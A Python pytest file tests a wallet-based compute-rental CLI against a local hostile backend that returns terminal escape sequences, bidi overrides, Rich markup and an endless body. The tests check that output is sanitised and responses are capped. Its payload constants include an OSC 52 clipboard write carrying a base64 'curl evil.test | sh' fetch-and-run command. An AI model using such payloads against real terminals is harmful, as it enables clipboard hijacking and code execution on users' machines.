"""The CLI against a hostile backend: a real HTTP server (on a free port, in this test) that
answers like the cvm backend, but with terminal escape sequences, bidirectional overrides and
Rich markup in every text it controls, and a body that never ends.

Every test here fails on the code before the printable filter (`cvm.cli.plumbing.literal`)
and the response cap (`cvm.api_client.MAX_RESPONSE_BYTES`): the raw bytes reached the
terminal (retitling it, clearing it, writing its clipboard through OSC 52), Rich read the
backend's `[...]` as markup, and an endless body was read into memory.
"""

from __future__ import annotations

import dataclasses
import json
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from cvm.api_client import ApiClient, ApiError
from cvm.cli import app, plumbing
from cvm.wallet import import_keystore
from tests.fixtures.chain import ChainSystem

pytestmark = pytest.mark.integration

OSC_TITLE = "\x1b]0;owned title\x07"
CSI_CLEAR = "\x1b[2J\x1b[3J\x1b[H"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07"  # "curl evil.test | sh"
C1_CSI = "\x9b2J"  # the one-byte CSI of C1: clear screen on terminals that take 8-bit C1
BIDI = "\u202eevil\u202c \u2066x\u2069"
MARKUP = "[blink]FAKE[/blink] [link=https://evil.test]x[/link]"
HOSTILE = f"bad {OSC_TITLE} {CSI_CLEAR} {OSC_CLIPBOARD} {C1_CSI} \x08 {BIDI} {MARKUP}"
RAW = ("\x1b", "\x07", "\x08", "\x9b", "\u202e", "\u202c", "\u2066", "\u2069")
ENDLESS = object()  # a route answering this streams zeros until the client hangs up
GIB = 1 << 30

Route = Callable[[], tuple[int, Any]]


class HostileBackend:
    """A real HTTP server: `routes` maps (method, path regex) to (status, JSON body)."""

    def __init__(self) -> None:
        self.routes: dict[tuple[str, str], Route] = {}
        self.streamed = 0
        self.stream_done = threading.Event()
        backend = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def _answer(self, method: str) -> None:
                path = self.path.split("?")[0]
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                for (verb, pattern), route in backend.routes.items():
                    if verb == method and re.fullmatch(pattern, path):
                        status, body = route()
                        break
                else:
                    status, body = 404, {"detail": "not here"}
                if body is ENDLESS:
                    backend.stream(self)
                    return
                data = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:
                self._answer("GET")

            def do_POST(self) -> None:
                self._answer("POST")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def stream(self, handler: BaseHTTPRequestHandler) -> None:
        """A 200 with no length that sends zeros until 1 GiB or the client hangs up."""
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        handler.end_headers()  # HTTP/1.0: the body ends when the connection does
        chunk = b"0" * (1 << 16)
        try:
            while self.streamed < GIB:
                handler.wfile.write(chunk)
                self.streamed += len(chunk)
        except OSError:
            pass  # the client stopped reading: what the cap is for
        finally:
            self.stream_done.set()


@pytest.fixture
def backend() -> Iterator[HostileBackend]:
    server = HostileBackend()
    server.thread.start()
    try:
        yield server
    finally:
        server.server.shutdown()
        server.server.server_close()


@pytest.fixture
def record(chain: ChainSystem, backend: HostileBackend, tmp_path: Path) -> Path:
    path = tmp_path / "deployment.json"
    dataclasses.replace(chain.deployment, api_url=backend.url).save(path)
    return path


@pytest.fixture
def renter_args(chain: ChainSystem, record: Path, tmp_path: Path) -> list[str]:
    keystore = tmp_path / "renter.json"
    import_keystore(keystore, chain.accounts.renter.key, "pw", kdf="pbkdf2", iterations=2)
    password = tmp_path / "password"
    password.write_text("pw\n")
    password.chmod(0o600)
    return ["--deployment", str(record), "--wallet", str(keystore), "--password-file",
            str(password)]  # fmt: skip


@pytest.fixture(autouse=True)
def wide_consoles(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fresh consoles made inside each run, 2000 columns wide (COLUMNS below), so that no
    table wraps the markup this test looks for."""
    monkeypatch.setattr(plumbing, "_consoles", {})


def cvm(*args: str) -> Any:
    result = CliRunner().invoke(app, list(args), env={"COLUMNS": "2000"})
    assert "Traceback" not in result.output
    return result


def assert_inert(output: str) -> None:
    """No byte a terminal acts on, and the markup shown as the text it is."""
    for raw in RAW:
        assert raw not in output, f"{raw!r} reached the terminal: {output!r}"
    assert "[blink]FAKE[/blink]" in output, output
    assert "[link=https://evil.test]x[/link]" in output, output


def node_view(**fields: Any) -> dict[str, Any]:
    return {
        "address": HOSTILE, "operator": HOSTILE, "tee_type": 1, "vcpus": 16,
        "memory_mib": 65536, "disk_gib": 500, "region": 276,
        "price_per_vcpu_second": 10**12, "stake": 10**21, "active": True,
        "endpoint": HOSTILE, "reputation": 1.0,
    } | fields  # fmt: skip


def test_nodes_table_shows_hostile_fields_as_text(backend: HostileBackend, record: Path) -> None:
    backend.routes[("GET", "/v1/nodes")] = lambda: (200, [node_view()])
    result = cvm("nodes", "--deployment", str(record))
    assert result.exit_code == 0, result.output
    assert_inert(result.output)
    # The price the renter thinks in: 2 vCPU x 1e12 base/s = 0.0072 tokens an hour.
    assert "0.0072 tokens/h (2000000000000 base/s)" in result.output


def test_nodes_json_stays_faithful(backend: HostileBackend, record: Path) -> None:
    """--json is for programs: the backend's text, exactly, but escaped by JSON itself."""
    backend.routes[("GET", "/v1/nodes")] = lambda: (200, [node_view()])
    result = cvm("nodes", "--deployment", str(record), "--json")
    assert result.exit_code == 0, result.output
    for raw in RAW:
        assert raw not in result.stdout
    [node] = json.loads(result.stdout)
    assert node["endpoint"] == HOSTILE
    assert node["rate_per_second"] == 2 * 10**12 and node["price_per_vcpu_second"] == 10**12


def test_verifier_reason_codes_are_shown_as_text(
    chain: ChainSystem, backend: HostileBackend, record: Path
) -> None:
    lease_id = chain.open_lease()
    verification = {
        "ok": False, "reason_codes": [HOSTILE, "measurement_mismatch"], "detail": {"x": HOSTILE},
        "report_hash": "0x" + "ab" * 32, "checked_at": "2026-01-01T00:00:00Z",
        "confirm_tx": None, "amd_root": None,
    }  # fmt: skip
    backend.routes[("GET", rf"/v1/leases/{lease_id}/attestation")] = lambda: (
        200,
        {
            "lease_id": lease_id, "status": "none", "node": None, "report_hash": None,
            "measurement": None, "submitted_at": None, "verified_at": None,
            "expires_at": None, "verification": verification,
        },
    )  # fmt: skip
    result = cvm("attestation", "status", str(lease_id), "--deployment", str(record))
    assert result.exit_code == 0, result.output
    assert_inert(result.output)
    assert "measurement_mismatch" in result.output
    as_json = cvm("attestation", "status", str(lease_id), "--deployment", str(record), "--json")
    assert "\x1b" not in as_json.stdout
    assert json.loads(as_json.stdout)["verification"]["reason_codes"][0] == HOSTILE


def test_a_backend_error_message_is_one_inert_line(
    backend: HostileBackend, renter_args: list[str]
) -> None:
    """`cvm rent` asks the backend which nodes fit; its refusal is shown, not obeyed."""
    backend.routes[("GET", "/v1/nodes")] = lambda: (502, {"detail": HOSTILE + "\ndone: ok"})
    result = cvm("rent", "--duration", "1h", "--measurement", "0x" + "5a" * 48, "--no-wait",
                 *renter_args)  # fmt: skip
    assert result.exit_code == 1, result.output
    assert_inert(result.output)
    # A newline in the message cannot fake a line of its own.
    assert [line for line in result.output.splitlines() if line.strip()] == [
        line for line in result.output.splitlines() if line.startswith("error:")
    ]


def _sign_in_routes(chain: ChainSystem, backend: HostileBackend) -> None:
    expires = "2099-01-01T00:00:00Z"
    challenge = {"nonce": "n", "message": "sign in", "expires_at": expires}
    session = {"token": "t", "address": chain.accounts.renter.address, "expires_at": expires}
    backend.routes[("POST", "/v1/auth/nonce")] = lambda: (200, challenge)
    backend.routes[("POST", "/v1/auth/login")] = lambda: (200, session)


def test_guest_console_and_its_errors_are_inert(
    chain: ChainSystem, backend: HostileBackend, renter_args: list[str]
) -> None:
    lease_id = chain.open_lease()
    _sign_in_routes(chain, backend)
    text = f"{HOSTILE}\r\nsecond line\n"
    backend.routes[("GET", rf"/v1/leases/{lease_id}/logs")] = lambda: (
        200, {"lease_id": lease_id, "node": None, "start": 0, "end": len(text),
              "text": text, "updated_at": None})  # fmt: skip
    result = cvm("lease", "logs", str(lease_id), *renter_args)
    assert result.exit_code == 0, result.output
    assert_inert(result.output)
    assert "\nsecond line\n" in result.output  # the console keeps its own lines

    backend.routes[("GET", rf"/v1/leases/{lease_id}/logs")] = lambda: (403, {"detail": HOSTILE})
    refused = cvm("lease", "logs", str(lease_id), *renter_args)
    assert refused.exit_code == 1, refused.output
    assert_inert(refused.output)


def test_an_endless_answer_is_cut_with_a_clear_error(backend: HostileBackend, record: Path) -> None:
    """A backend that streams a 1 GiB body: refused after the cap, not read into memory."""
    backend.routes[("GET", "/v1/nodes")] = lambda: (200, ENDLESS)
    result = cvm("nodes", "--deployment", str(record))
    assert result.exit_code == 1, result.output
    assert "the backend's answer is over 16777216 bytes; refused" in result.output
    assert backend.stream_done.wait(60), "the server is still streaming"
    assert backend.streamed < GIB // 4  # the client hung up long before the end


def test_a_declared_oversized_answer_and_an_endless_event_are_refused(
    backend: HostileBackend,
) -> None:
    """The cap also holds for a length said up front, and for one line of an event stream."""
    backend.routes[("GET", "/v1/nodes")] = lambda: (200, [node_view()] * 50)
    with ApiClient(backend.url, max_response_bytes=1000) as api, pytest.raises(ApiError) as exc:
        api.list_nodes()
    assert "over the 1000" in str(exc.value)
    backend.routes[("GET", "/v1/leases/7/timeline/stream")] = lambda: (200, ENDLESS)
    with ApiClient(backend.url) as api, pytest.raises(ApiError) as exc:
        for _ in api.follow_timeline(7, deadline=float("inf")):
            pass
    assert "an event over 1048576 bytes; refused" in str(exc.value)
